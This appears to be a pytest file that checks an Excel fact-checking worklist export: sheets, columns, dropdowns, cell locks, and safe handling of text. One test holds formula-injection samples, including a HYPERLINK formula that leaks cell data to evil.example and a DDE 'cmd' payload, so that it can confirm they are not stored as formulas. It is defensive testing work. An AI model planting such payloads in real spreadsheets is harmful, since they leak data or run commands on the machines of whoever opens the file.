"""The Excel worklist as a fact-checker opens it: sheets, columns, dropdowns, locks, and no formulas."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.rich_text import CellRichText
from typer.testing import CliRunner

from claims.cli import app
from claims.worklist.rows import HEADERS

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1 rose by 30%",
    "-5% was the fall in 2020",
    "@SUM(A1) is not a formula",
    "\t=1+1 in a tab",
]


def _extract(tmp_path: Path, articles: list[dict], name: str = "worklist.xlsx") -> Path:
    source = tmp_path / "articles.jsonl"
    source.write_text("\n".join(json.dumps(a) for a in articles) + "\n", encoding="utf-8")
    out = tmp_path / name
    result = CliRunner().invoke(app, ["extract", str(source), "--output", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def seed_workbook(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("seed")
    out = folder / "worklist.xlsx"
    seed = Path(__file__).resolve().parents[1] / "articles" / "upi-north-korea-russia-anniversary.txt"
    result = CliRunner().invoke(app, ["extract", str(seed), "--output", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    return out


def _rows(ws) -> list[dict[str, object]]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c.value for c in row))) for row in ws.iter_rows(min_row=2)]


def test_sheets_columns_and_layout(seed_workbook):
    wb = load_workbook(seed_workbook, rich_text=True)
    assert wb.sheetnames == ["Claims", "Articles", "Summary", "Guide"]
    ws = wb["Claims"]
    assert tuple(c.value for c in ws[1]) == HEADERS
    assert ws.freeze_panes == "E2"
    (table,) = ws.tables.values()
    assert table.ref == f"A1:U{ws.max_row}"
    hidden = [c for c in ("T", "U") if ws.column_dimensions[c].hidden]
    assert hidden == ["T", "U"]
    assert wb.properties.identifier and wb.properties.keywords.startswith("claims-export:")


def test_rows_sorted_by_priority_and_money_row(seed_workbook):
    rows = _rows(load_workbook(seed_workbook)["Claims"])
    priorities = [r["Priority"] for r in rows]
    assert priorities == sorted(priorities, reverse=True)
    money = next(r for r in rows if r["Type"] == "money")
    assert money["Claim"] == "more than $500 million annually"
    assert money["Value"] == "> 500,000,000 USD per year"
    assert money["Said by"] == "United States (government)"
    assert money["Via"] == "The Washington Post report, Sunday"
    assert money["Para"] == 11
    assert money["Article"] == "North Korea highlights ‘deepening friendship’ with Russia on anniversary"


def test_dropdowns_and_locks(seed_workbook):
    ws = load_workbook(seed_workbook)["Claims"]
    lists = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation}
    assert lists['"To check,In progress,Done,Not checkable"'].startswith("N2:N")
    assert lists['"Accurate,Mostly accurate,Misleading,Inaccurate,Unverifiable"'].startswith("O2:O")
    assert ws.protection.sheet is True
    assert ws["D2"].protection.locked is True  # Claim: machine column
    assert ws["N2"].protection.locked is False  # Status: reviewer column
    assert ws["R2"].protection.locked is False  # Notes


def test_context_highlights_the_claim(seed_workbook):
    wb = load_workbook(seed_workbook, rich_text=True)
    ws = wb["Claims"]
    header = [c.value for c in ws[1]]
    context_col = header.index("Context")
    claim_col = header.index("Claim")
    row = next(r for r in ws.iter_rows(min_row=2) if r[claim_col].value == "more than $500 million annually")
    context = row[context_col].value
    assert isinstance(context, CellRichText)
    bold = [block.text for block in context if hasattr(block, "font") and block.font.b]
    assert bold == ["more than $500 million annually"]


def test_no_formula_cells_even_for_formula_like_text(tmp_path):
    text = "Formula test\n\n" + "\n\n".join(f"{line} said the agency." for line in DANGEROUS)
    out = _extract(tmp_path, [{"id": "danger", "title": "=cmd|' /C calc'!A0", "text": text}])
    wb = load_workbook(out)
    formula_cells = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formula_cells == []
    titles = [c.value for c in wb["Articles"]["A"]]
    assert "=cmd|' /C calc'!A0" in titles
    claims = [c.value for c in wb["Claims"]["D"]]
    assert "@SUM(A1) is not a formula" in claims and "+1" in claims
    starting = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert starting and all(c.quotePrefix for c in starting)


def test_control_characters_and_long_text(tmp_path):
    long_paragraph = "The budget rose 4% in 2020. " * 1500
    text = "Bad \x07bytes\x0b here: 5 people were hurt in 2019.\n\n" + long_paragraph
    out = _extract(tmp_path, [{"id": "ctrl", "text": text}])
    ws = load_workbook(out)["Claims"]
    values = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any("\x07" in v or "\x0b" in v for v in values)
    assert all(len(v) <= 32767 for v in values)


def test_libreoffice_converts_the_workbook(seed_workbook, tmp_path):
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (.ci/run installs libreoffice-calc-nogui)")
    result = subprocess.run([office, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(seed_workbook)],
                            capture_output=True, text=True, timeout=180)
    assert result.returncode == 0, result.stderr
    pdf = tmp_path / "worklist.pdf"
    assert pdf.exists() and pdf.stat().st_size > 1000
